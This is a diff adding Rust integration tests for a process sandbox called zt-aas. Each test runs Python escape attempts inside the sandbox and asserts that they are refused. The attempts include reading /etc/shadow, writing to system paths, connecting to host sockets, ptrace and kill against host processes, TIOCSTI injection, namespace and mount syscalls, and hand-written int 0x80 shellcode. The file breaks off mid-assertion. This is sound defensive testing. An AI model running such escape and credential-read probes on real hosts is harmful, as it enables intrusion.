@@ -1,0 +1,1410 @@
+//! Integration tests of `zt-aas run`: each starts the real binary on a real sandboxed process that attempts
+//! an escape (DESIGN.md "Escape routes", issue 2 "Tests") and asserts the precise refusal, so that removing
+//! the layer makes the test fail; the positive side checks that ordinary work really works.
+//!
+//! Run with `cargo test --features test-utils --test sandbox`. Every run is bounded by a timeout and every
+//! process a test starts is stopped by pid. Syscall-level attacks use /usr/bin/python3 (ctypes) inside.
+
+use std::collections::HashMap;
+use std::io::{Read, Write};
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::{CommandExt, ExitStatusExt};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
+
+const BIN: &str = env!("CARGO_BIN_EXE_zt-aas");
+/// Upper bound of one sandboxed run (debug build, two shared cores, tests in parallel).
+const RUN_TIMEOUT: Duration = Duration::from_secs(90);
+const NOBODY: u32 = 65534;
+
+const EPERM: i64 = libc::EPERM as i64;
+const ENOENT: i64 = libc::ENOENT as i64;
+const EAFNOSUPPORT: i64 = libc::EAFNOSUPPORT as i64;
+
+// ---------------------------------------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------------------------------------
+
+/// Who starts `zt-aas run`.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum User {
+    /// The test's own user.
+    Caller,
+    /// uid/gid 65534 through `setpriv` when the test runs as root (else the caller: already unprivileged).
+    Nobody,
+}
+
+fn is_root() -> bool {
+    // SAFETY: geteuid has no preconditions.
+    unsafe { libc::geteuid() == 0 }
+}
+
+/// A unique token for names (markers, abstract sockets).
+fn unique(tag: &str) -> String {
+    static COUNTER: AtomicU64 = AtomicU64::new(0);
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .subsec_nanos();
+    format!(
+        "zt-{tag}-{}-{nanos}-{}",
+        std::process::id(),
+        COUNTER.fetch_add(1, Ordering::Relaxed)
+    )
+}
+
+/// A host temp dir under /tmp holding the workspace (`ws`) and the state dir (XDG_STATE_HOME).
+struct Ctx {
+    root: tempfile::TempDir,
+    ws: PathBuf,
+    user: User,
+}
+
+impl Ctx {
+    fn new() -> Ctx {
+        Ctx::as_user(User::Caller)
+    }
+
+    fn as_user(user: User) -> Ctx {
+        let root = tempfile::Builder::new()
+            .prefix("zt-aas-test.")
+            .tempdir_in("/tmp")
+            .unwrap();
+        let ws = root.path().join("ws");
+        std::fs::create_dir(&ws).unwrap();
+        std::fs::create_dir(root.path().join("state")).unwrap();
+        let ctx = Ctx { root, ws, user };
+        if ctx.setpriv() {
+            std::fs::set_permissions(ctx.root.path(), std::fs::Permissions::from_mode(0o755))
+                .unwrap();
+            for p in [ctx.ws.clone(), ctx.root.path().join("state")] {
+                std::os::unix::fs::chown(&p, Some(NOBODY), Some(NOBODY)).unwrap();
+            }
+        }
+        ctx
+    }
+
+    /// Whether runs go through `setpriv` to uid 65534.
+    fn setpriv(&self) -> bool {
+        self.user == User::Nobody && is_root()
+    }
+
+    fn ws_str(&self) -> &str {
+        self.ws.to_str().unwrap()
+    }
+
+    /// The binary, reachable by the user that runs it (copied to a 0755 dir if its path is not).
+    fn binary(&self) -> PathBuf {
+        let bin = PathBuf::from(BIN);
+        if !self.setpriv() || world_reachable(&bin) {
+            return bin;
+        }
+        let dir = self.root.path().join("bin");
+        let copy = dir.join("zt-aas");
+        if !copy.exists() {
+            std::fs::create_dir_all(&dir).unwrap();
+            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+            std::fs::copy(&bin, &copy).unwrap();
+            std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        copy
+    }
+}
+
+/// Every ancestor searchable by others and the file readable and executable by others.
+fn world_reachable(path: &Path) -> bool {
+    let file_ok = std::fs::metadata(path)
+        .map(|m| m.permissions().mode() & 0o005 == 0o005)
+        .unwrap_or(false);
+    file_ok
+        && path.ancestors().skip(1).all(|a| {
+            std::fs::metadata(a)
+                .map(|m| m.permissions().mode() & 0o001 != 0)
+                .unwrap_or(false)
+        })
+}
+
+/// Options of one `zt-aas run`.
+#[derive(Default)]
+struct Opts<'a> {
+    /// Extra flags of `run` (before `--`).
+    flags: &'a [&'a str],
+    /// Extra variables of the caller's environment.
+    env: &'a [(&'a str, &'a str)],
+    stdin: Option<&'a [u8]>,
+    /// A host file to leave open (not close-on-exec) in zt-aas as this descriptor number.
+    inherit_fd: Option<(&'a Path, i32)>,
+}
+
+/// The `zt-aas run ... -- CMD` command for `ctx` (not started).
+fn zt_command(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Command {
+    let bin = ctx.binary();
+    let mut c = if ctx.setpriv() {
+        let mut c = Command::new("setpriv");
+        c.args([
+            &format!("--reuid={NOBODY}"),
+            &format!("--regid={NOBODY}"),
+            "--clear-groups",
+        ])
+        .arg(&bin);
+        c
+    } else {
+        Command::new(&bin)
+    };
+    let state = ctx.root.path().join("state");
+    c.args(["run", "--workspace", ctx.ws_str(), "--audit"])
+        .arg(state.join("audit.jsonl"));
+    c.args(opts.flags).arg("--").args(cmd);
+    // Nothing of a test's run may land in the real home's state either.
+    c.env("XDG_STATE_HOME", ctx.root.path().join("state"));
+    c.envs(opts.env.iter().copied());
+    c.current_dir(&ctx.ws);
+    c.stdin(if opts.stdin.is_some() {
+        Stdio::piped()
+    } else {
+        Stdio::null()
+    });
+    c.stdout(Stdio::piped()).stderr(Stdio::piped());
+    if let Some((path, fd)) = opts.inherit_fd {
+        let file = std::fs::File::open(path).unwrap();
+        let raw = std::os::fd::IntoRawFd::into_raw_fd(file);
+        // SAFETY: dup2 is async-signal-safe; `raw` stays open in the parent for the child's fork (the
+        // descriptor leaks in the test process, which is harmless).
+        unsafe {
+            c.pre_exec(move || {
+                if libc::dup2(raw, fd) < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                Ok(())
+            });
+        }
+    }
+    c
+}
+
+/// A started `zt-aas run` whose output is collected in the background.
+struct Running {
+    child: Child,
+    out: Option<thread::JoinHandle<Vec<u8>>>,
+    err: Option<thread::JoinHandle<Vec<u8>>>,
+}
+
+fn spawn(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Running {
+    let mut child = zt_command(ctx, opts, cmd).spawn().expect("start zt-aas");
+    if let Some(input) = opts.stdin {
+        let mut stdin = child.stdin.take().unwrap();
+        let input = input.to_vec();
+        thread::spawn(move || {
+            let _ = stdin.write_all(&input);
+        });
+    }
+    let mut so = child.stdout.take().unwrap();
+    let mut se = child.stderr.take().unwrap();
+    let out = thread::spawn(move || {
+        let mut v = Vec::new();
+        let _ = so.read_to_end(&mut v);
+        v
+    });
+    let err = thread::spawn(move || {
+        let mut v = Vec::new();
+        let _ = se.read_to_end(&mut v);
+        v
+    });
+    Running {
+        child,
+        out: Some(out),
+        err: Some(err),
+    }
+}
+
+impl Running {
+    fn pid(&self) -> i32 {
+        self.child.id() as i32
+    }
+
+    /// Waits for the end (bounded): kills it by pid and fails the test on timeout.
+    fn wait(mut self) -> Output {
+        let deadline = Instant::now() + RUN_TIMEOUT;
+        let status = loop {
+            if let Some(status) = self.child.try_wait().unwrap() {
+                break status;
+            }
+            if Instant::now() > deadline {
+                let _ = self.child.kill();
+                let _ = self.child.wait();
+                panic!(
+                    "zt-aas run (pid {}) did not finish within {RUN_TIMEOUT:?}",
+                    self.child.id()
+                );
+            }
+            thread::sleep(Duration::from_millis(20));
+        };
+        let stdout = self.out.take().unwrap().join().unwrap();
+        let stderr = self.err.take().unwrap().join().unwrap();
+        Output {
+            status,
+            stdout,
+            stderr,
+        }
+    }
+}
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        // Only reached without `wait` (a failed assertion while it ran): stop it by pid.
+        if let Ok(None) = self.child.try_wait() {
+            let _ = self.child.kill();
+            let _ = self.child.wait();
+        }
+    }
+}
+
+/// Runs `cmd` in the sandbox of `ctx` with `opts` and returns its output.
+fn run_with(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Output {
+    spawn(ctx, opts, cmd).wait()
+}
+
+/// Runs a shell script in the sandbox.
+fn run_in_sandbox(ctx: &Ctx, script: &str) -> Output {
+    run_with(ctx, &Opts::default(), &["sh", "-c", script])
+}
+
+/// Helpers available to every Python attack: `err(f, *a)` = 0 or the errno of the OSError; `sc(nr, *a)` =
+/// the raw syscall's result, or -errno; `out(k, v)` prints `k=v` for [`kv`].
+const PY_PRELUDE: &str = r#"
+import ctypes, errno, os, socket, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def err(f, *a):
+    try:
+        f(*a)
+        return 0
+    except OSError as e:
+        return e.errno
+def sc(nr, *a):
+    ctypes.set_errno(0)
+    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
+    return -ctypes.get_errno() if r == -1 else r
+def out(k, v):
+    print("%s=%s" % (k, v), flush=True)
+"#;
+
+/// Runs a Python program (after [`PY_PRELUDE`]) in the sandbox.
+fn run_python(ctx: &Ctx, code: &str) -> Output {
+    let program = format!("{PY_PRELUDE}\n{code}");
+    run_with(ctx, &Opts::default(), &["/usr/bin/python3", "-c", &program])
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn describe(o: &Output) -> String {
+    format!(
+        "status {:?}\n--- stdout\n{}\n--- stderr\n{}",
+        o.status,
+        text(&o.stdout),
+        text(&o.stderr)
+    )
+}
+
+/// Asserts a run exited 0 and returns its stdout.
+fn ok_stdout(o: &Output) -> String {
+    assert_eq!(o.status.code(), Some(0), "{}", describe(o));
+    text(&o.stdout)
+}
+
+/// The `key=value` lines of a successful run.
+fn kv(o: &Output) -> HashMap<String, String> {
+    ok_stdout(o)
+        .lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect()
+}
+
+/// The integer value of `key` (fails the test if missing).
+fn num(map: &HashMap<String, String>, key: &str) -> i64 {
+    map.get(key)
+        .unwrap_or_else(|| panic!("no `{key}` in {map:?}"))
+        .parse()
+        .unwrap_or_else(|_| panic!("`{key}` is not a number in {map:?}"))
+}
+
+/// Host pids whose command line contains `marker`.
+fn host_pids_with(marker: &str) -> Vec<i32> {
+    let mut pids = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
+            continue;
+        };
+        if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) {
+            if text(&cmdline).contains(marker) {
+                pids.push(pid);
+            }
+        }
+    }
+    pids
+}
+
+/// Kills (by pid) whatever still carries `marker`, so a failing test leaves nothing behind.
+fn kill_marked(marker: &str) {
+    for pid in host_pids_with(marker) {
+        // SAFETY: kill with a pid we found carrying our unique marker.
+        unsafe { libc::kill(pid, libc::SIGKILL) };
+    }
+}
+
+/// Polls `cond` until true or `timeout` (returns the last value).
+fn wait_until(timeout: Duration, mut cond: impl FnMut() -> bool) -> bool {
+    let deadline = Instant::now() + timeout;
+    loop {
+        if cond() {
+            return true;
+        }
+        if Instant::now() > deadline {
+            return false;
+        }
+        thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// `marker` reversed: written so in the programs we pass, so that only the process that rebuilds it (not
+/// zt-aas, whose argv holds the program text) carries the marker in its command line.
+fn reversed(marker: &str) -> String {
+    marker.chars().rev().collect()
+}
+
+/// The Python one-liner that becomes `sleep 300` with `marker` as its argv[0].
+fn marked_sleep_py(marker: &str) -> String {
+    format!(
+        "import os; os.execv('/usr/bin/sleep', ['{}'[::-1], '300'])",
+        reversed(marker)
+    )
+}
+
+/// A host process the test owns; killed by pid when dropped.
+struct HostProcess(Child);
+
+impl HostProcess {
+    fn sleep() -> HostProcess {
+        HostProcess(
+            Command::new("sleep")
+                .arg("60")
+                .stdin(Stdio::null())
+                .spawn()
+                .unwrap(),
+        )
+    }
+    fn alive(&mut self) -> bool {
+        self.0.try_wait().unwrap().is_none()
+    }
+}
+
+impl Drop for HostProcess {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+const GIT_ENV: &[(&str, &str)] = &[
+    ("GIT_AUTHOR_NAME", "Test Author"),
+    ("GIT_AUTHOR_EMAIL", "author@example.invalid"),
+    ("GIT_COMMITTER_NAME", "Test Committer"),
+    ("GIT_COMMITTER_EMAIL", "committer@example.invalid"),
+];
+
+// ---------------------------------------------------------------------------------------------------------
+// Shared checks (run as the caller and as an unprivileged user)
+// ---------------------------------------------------------------------------------------------------------
+
+fn check_host_files_invisible(user: User) {
+    let ctx = Ctx::as_user(user);
+    // A secret beside the workspace (its parent exists inside, as the mount point's path) and one in a
+    // separate host temp dir.
+    let beside = ctx.root.path().join("secret.txt");
+    std::fs::write(&beside, "beside-secret").unwrap();
+    let other = tempfile::Builder::new()
+        .prefix("zt-aas-secret.")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let elsewhere = other.path().join("secret.txt");
+    std::fs::write(&elsewhere, "elsewhere-secret").unwrap();
+    if ctx.setpriv() {
+        // Readable by the sandbox's user, so only the sandbox can stand in the way.
+        std::fs::set_permissions(other.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+        for f in [&beside, &elsewhere] {
+            std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
+        }
+    }
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+out("beside", err(lambda: open({beside:?}).read()))
+out("elsewhere", err(lambda: open({elsewhere:?}).read()))
+out("shadow", err(lambda: open("/etc/shadow").read()))
+out("root", int(os.path.exists("/root")))
+out("home", int(os.path.exists("/home")))
+out("run", int(os.path.exists("/run")))
+out("var", int(os.path.exists("/var")))
+out("passwd", len(open("/etc/passwd").read()) > 0)
+"#,
+            beside = beside.to_str().unwrap(),
+            elsewhere = elsewhere.to_str().unwrap(),
+        ),
+    );
+    let m = kv(&o);
+    assert_eq!(num(&m, "beside"), ENOENT, "{m:?}");
+    assert_eq!(num(&m, "elsewhere"), ENOENT, "{m:?}");
+    assert_eq!(num(&m, "shadow"), ENOENT, "{m:?}");
+    for gone in ["root", "home", "run", "var"] {
+        assert_eq!(num(&m, gone), 0, "/{gone} visible inside: {m:?}");
+    }
+    assert_eq!(
+        m["passwd"], "True",
+        "the allowed /etc/passwd must stay readable"
+    );
+}
+
+fn check_write_outside_workspace_refused(user: User) {
+    let ctx = Ctx::as_user(user);
+    let name = unique("write");
+    let targets: Vec<String> = ["/usr", "/etc", "", "/.zt-aas/bin"]
+        .iter()
+        .map(|d| format!("{d}/{name}"))
+        .collect();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+for i, p in enumerate({targets:?}):
+    out("new%d" % i, err(lambda: open(p, "w").write("x")))
+out("overwrite", err(lambda: open("/usr/bin/true", "r+b").write(b"x")))
+out("mkdir", err(os.mkdir, "/etc/{name}.d"))
+open("inside.txt", "w").write("written inside")
+"#
+        ),
+    );
+    let m = kv(&o);
+    let refused = [libc::EROFS as i64, libc::EACCES as i64, EPERM];
+    for (i, t) in targets.iter().enumerate() {
+        let e = num(&m, &format!("new{i}"));
+        assert!(
+            refused.contains(&e),
+            "creating {t}: errno {e} (expected EROFS/EACCES/EPERM): {m:?}"
+        );
+        assert!(!Path::new(t).exists(), "{t} appeared on the host");
+    }
+    assert!(!Path::new(&format!("/usr/{name}")).exists());
+    assert!(!Path::new(&format!("/etc/{name}")).exists());
+    assert!(!Path::new(&format!("/{name}")).exists());
+    for k in ["overwrite", "mkdir"] {
+        let e = num(&m, k);
+        assert!(refused.contains(&e), "{k}: errno {e}: {m:?}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(ctx.ws.join("inside.txt")).unwrap(),
+        "written inside"
+    );
+}
+
+fn check_tcp_to_host_refused(user: User) {
+    let ctx = Ctx::as_user(user);
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+def connect(fam, addr):
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(5)
+    s.connect(addr)
+out("tcp4", err(connect, socket.AF_INET, ("127.0.0.1", {port})))
+out("tcp6", err(connect, socket.AF_INET6, ("::1", {port})))
+out("mptcp", err(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262))
+"#
+        ),
+    );
+    let m = kv(&o);
+    for k in ["tcp4", "tcp6", "mptcp"] {
+        assert_eq!(num(&m, k), EAFNOSUPPORT, "{k}: {m:?}");
+    }
+    match listener.accept() {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+        other => panic!("the host listener got a connection: {other:?}"),
+    }
+}
+
+fn check_status_no_privileges(user: User) {
+    let ctx = Ctx::as_user(user);
+    let o = run_in_sandbox(&ctx, "cat /proc/self/status");
+    let status = ok_stdout(&o);
+    let field = |name: &str| -> String {
+        status
+            .lines()
+            .find_map(|l| l.strip_prefix(&format!("{name}:")))
+            .unwrap_or_else(|| panic!("no {name} in /proc/self/status:\n{status}"))
+            .trim()
+            .to_string()
+    };
+    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert_eq!(field(cap), "0000000000000000", "{cap}");
+    }
+    assert_eq!(field("NoNewPrivs"), "1");
+    assert_eq!(field("Seccomp"), "2");
+}
+
+fn check_git_commit(user: User) {
+    let ctx = Ctx::as_user(user);
+    let opts = Opts {
+        env: GIT_ENV,
+        ..Default::default()
+    };
+    let o = run_with(
+        &ctx,
+        &opts,
+        &[
+            "sh",
+            "-c",
+            "set -e; git init -q . && echo hello > a.txt && git add a.txt && git commit -q -m first \
+             && git log --format='%s|%an|%ce'",
+        ],
+    );
+    assert_eq!(
+        ok_stdout(&o),
+        "first|Test Author|committer@example.invalid\n",
+        "{}",
+        describe(&o)
+    );
+    assert!(ctx.ws.join(".git/HEAD").is_file());
+    assert_eq!(
+        std::fs::read_to_string(ctx.ws.join("a.txt")).unwrap(),
+        "hello\n"
+    );
+}
+
+fn check_exit_codes(user: User) {
+    let ctx = Ctx::as_user(user);
+    assert_eq!(run_in_sandbox(&ctx, "exit 42").status.code(), Some(42));
+    assert_eq!(run_in_sandbox(&ctx, "exit 0").status.code(), Some(0));
+    let killed = run_in_sandbox(&ctx, "kill -9 $$");
+    assert_eq!(killed.status.code(), Some(137), "{}", describe(&killed));
+    let audit = std::fs::read_to_string(ctx.root.path().join("state/audit.jsonl")).unwrap();
+    assert!(
+        audit.lines().count() >= 6,
+        "three sessions were not recorded in the audit log:\n{audit}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Attacks: files
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn host_files_outside_allowed_paths_are_invisible() {
+    check_host_files_invisible(User::Caller);
+}
+
+#[test]
+fn unprivileged_host_files_outside_allowed_paths_are_invisible() {
+    check_host_files_invisible(User::Nobody);
+}
+
+#[test]
+fn writes_outside_the_workspace_are_refused() {
+    check_write_outside_workspace_refused(User::Caller);
+}
+
+#[test]
+fn unprivileged_writes_outside_the_workspace_are_refused() {
+    check_write_outside_workspace_refused(User::Nobody);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Attacks: network and IPC
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn tcp_to_a_host_loopback_listener_is_refused() {
+    check_tcp_to_host_refused(User::Caller);
+}
+
+#[test]
+fn unprivileged_tcp_to_a_host_loopback_listener_is_refused() {
+    check_tcp_to_host_refused(User::Nobody);
+}
+
+#[test]
+fn udp_to_a_host_loopback_listener_is_refused() {
+    let ctx = Ctx::new();
+    let host = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    host.set_nonblocking(true).unwrap();
+    let port = host.local_addr().unwrap().port();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+def send(fam, addr):
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.sendto(b"leak", addr)
+out("udp4", err(send, socket.AF_INET, ("127.0.0.1", {port})))
+out("udp6", err(send, socket.AF_INET6, ("::1", {port})))
+"#
+        ),
+    );
+    let m = kv(&o);
+    assert_eq!(num(&m, "udp4"), EAFNOSUPPORT, "{m:?}");
+    assert_eq!(num(&m, "udp6"), EAFNOSUPPORT, "{m:?}");
+    let mut buf = [0u8; 64];
+    match host.recv_from(&mut buf) {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+        other => panic!("the host UDP socket received something: {other:?}"),
+    }
+}
+
+#[test]
+fn socket_families_other_than_unix_are_eafnosupport() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        r#"
+out("inet", err(socket.socket, socket.AF_INET, socket.SOCK_STREAM))
+out("inet_raw", err(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1))
+out("inet6", err(socket.socket, socket.AF_INET6, socket.SOCK_DGRAM))
+out("netlink", err(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0))
+out("packet", err(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0))
+r = sc(41, 2, 1, 0)
+out("raw_inet", -r if r < 0 else 0)
+a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+a.send(b"ping")
+out("unix", b.recv(4).decode())
+"#,
+    );
+    let m = kv(&o);
+    for k in ["inet", "inet_raw", "inet6", "netlink", "packet", "raw_inet"] {
+        assert_eq!(num(&m, k), EAFNOSUPPORT, "{k}: {m:?}");
+    }
+    assert_eq!(m["unix"], "ping");
+}
+
+#[test]
+fn host_pathname_unix_socket_outside_the_workspace_is_unreachable() {
+    let ctx = Ctx::new();
+    let dir = tempfile::Builder::new()
+        .prefix("zt-aas-sock.")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let stream_path = dir.path().join("stream.sock");
+    let dgram_path = dir.path().join("dgram.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&stream_path).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
+    dgram.set_nonblocking(true).unwrap();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+def connect(p):
+    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(p)
+def send(p):
+    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"leak", p)
+out("stream", err(connect, {s:?}))
+out("dgram", err(send, {d:?}))
+"#,
+            s = stream_path.to_str().unwrap(),
+            d = dgram_path.to_str().unwrap(),
+        ),
+    );
+    let m = kv(&o);
+    assert_eq!(num(&m, "stream"), ENOENT, "{m:?}");
+    assert_eq!(num(&m, "dgram"), ENOENT, "{m:?}");
+    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
+    let mut buf = [0u8; 16];
+    assert!(matches!(dgram.recv(&mut buf), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
+}
+
+#[test]
+fn host_abstract_unix_socket_is_unreachable() {
+    use std::os::linux::net::SocketAddrExt;
+    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
+    let ctx = Ctx::new();
+    let stream_name = unique("abstract-stream");
+    let dgram_name = unique("abstract-dgram");
+    let listener =
+        UnixListener::bind_addr(&SocketAddr::from_abstract_name(stream_name.as_bytes()).unwrap())
+            .unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let dgram =
+        UnixDatagram::bind_addr(&SocketAddr::from_abstract_name(dgram_name.as_bytes()).unwrap())
+            .unwrap();
+    dgram.set_nonblocking(true).unwrap();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+def connect(n):
+    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\0" + n)
+def send(n):
+    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"leak", "\0" + n)
+out("stream", err(connect, {stream_name:?}))
+out("dgram", err(send, {dgram_name:?}))
+# An abstract socket of the sandbox's own works (the refusal above is about the host's).
+srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+srv.bind("\0inside-{stream_name}")
+srv.listen(1)
+c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+out("own", err(c.connect, "\0inside-{stream_name}"))
+"#
+        ),
+    );
+    let m = kv(&o);
+    assert_ne!(
+        num(&m, "stream"),
+        0,
+        "connected to the host's abstract socket: {m:?}"
+    );
+    assert_ne!(
+        num(&m, "dgram"),
+        0,
+        "sent to the host's abstract socket: {m:?}"
+    );
+    assert_eq!(num(&m, "own"), 0, "{m:?}");
+    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
+    let mut buf = [0u8; 16];
+    assert!(matches!(dgram.recv(&mut buf), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Attacks: processes and syscalls
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn host_process_cannot_be_killed_or_traced() {
+    let ctx = Ctx::new();
+    let mut victim = HostProcess::sleep();
+    let pid = victim.0.id();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+import signal
+out("kill", err(os.kill, {pid}, signal.SIGTERM))
+out("ptrace_attach", -sc(101, 16, {pid}, 0, 0))
+out("ptrace_seize", -sc(101, 0x4206, {pid}, 0, 0))
+out("pidfd_open", -sc(434, {pid}, 0))
+"#
+        ),
+    );
+    let m = kv(&o);
+    let k = num(&m, "kill");
+    assert!(k == libc::ESRCH as i64 || k == EPERM, "kill: {m:?}");
+    assert_eq!(num(&m, "ptrace_attach"), EPERM, "{m:?}");
+    assert_eq!(num(&m, "ptrace_seize"), EPERM, "{m:?}");
+    assert_eq!(num(&m, "pidfd_open"), libc::ESRCH as i64, "{m:?}");
+    assert!(victim.alive(), "the host process died");
+}
+
+#[test]
+fn tiocsti_and_tioclinux_are_eperm_even_with_high_bits() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        r#"
+libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]
+c = ctypes.c_char(b"x")
+def ioctl(req):
+    ctypes.set_errno(0)
+    r = libc.ioctl(0, req, ctypes.byref(c))
+    return ctypes.get_errno() if r == -1 else 0
+out("tiocsti", ioctl(0x5412))
+out("tiocsti_high", ioctl(0x100005412))
+out("tioclinux", ioctl(0x541C))
+out("tioclinux_high", ioctl(0xdead0000541C))
+out("fionread", ioctl(0x541B))
+"#,
+    );
+    let m = kv(&o);
+    for k in ["tiocsti", "tiocsti_high", "tioclinux", "tioclinux_high"] {
+        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
+    }
+    // Other ioctls reach the driver (stdin is /dev/null: not a tty).
+    assert_eq!(num(&m, "fionread"), libc::ENOTTY as i64, "{m:?}");
+}
+
+#[test]
+fn nested_namespaces_are_eperm() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+out("unshare_user", -sc(272, {user}))
+out("unshare_mount", -sc(272, {ns}))
+out("unshare_net", -sc(272, {net}))
+out("setns", -sc(308, 0, 0))
+"#,
+            user = libc::CLONE_NEWUSER,
+            ns = libc::CLONE_NEWNS,
+            net = libc::CLONE_NEWNET,
+        ),
+    );
+    let m = kv(&o);
+    for k in ["unshare_user", "unshare_mount", "unshare_net", "setns"] {
+        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
+    }
+}
+
+#[test]
+fn mount_family_is_eperm() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        r#"
+os.mkdir("/tmp/m")
+libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
+ctypes.set_errno(0)
+r = libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None)
+out("mount", ctypes.get_errno() if r == -1 else 0)
+tmp = ctypes.create_string_buffer(b"/tmp")
+out("umount2", -sc(166, ctypes.addressof(tmp), 2))
+path = ctypes.create_string_buffer(b"tmpfs")
+out("fsopen", -sc(430, ctypes.addressof(path), 0))
+dot = ctypes.create_string_buffer(b".")
+out("open_tree", -sc(428, -100, ctypes.addressof(dot), 1))
+out("chroot", -sc(161, ctypes.addressof(dot)))
+"#,
+    );
+    let m = kv(&o);
+    for k in ["mount", "umount2", "fsopen", "open_tree", "chroot"] {
+        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
+    }
+}
+
+#[test]
+fn x32_syscall_is_eperm_not_enosys() {
+    let ctx = Ctx::new();
+    // x32 getpid (0x40000000 | 39): refused explicitly, not left to the kernel's ENOSYS or executed.
+    let o = run_python(
+        &ctx,
+        "out('x32_getpid', -sc(0x40000000 | 39))\nout('x32_write', -sc(0x40000000 | 1, 1, 0, 0))",
+    );
+    let m = kv(&o);
+    assert_eq!(num(&m, "x32_getpid"), EPERM, "{m:?}");
+    assert_eq!(num(&m, "x32_write"), EPERM, "{m:?}");
+}
+
+#[test]
+fn int80_i386_syscall_is_killed_by_sigsys() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        r#"
+import mmap
+m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+m.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (i386 getpid); int 0x80; ret
+f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
+out("before", 1)
+out("after", f())
+"#,
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(128 + libc::SIGSYS),
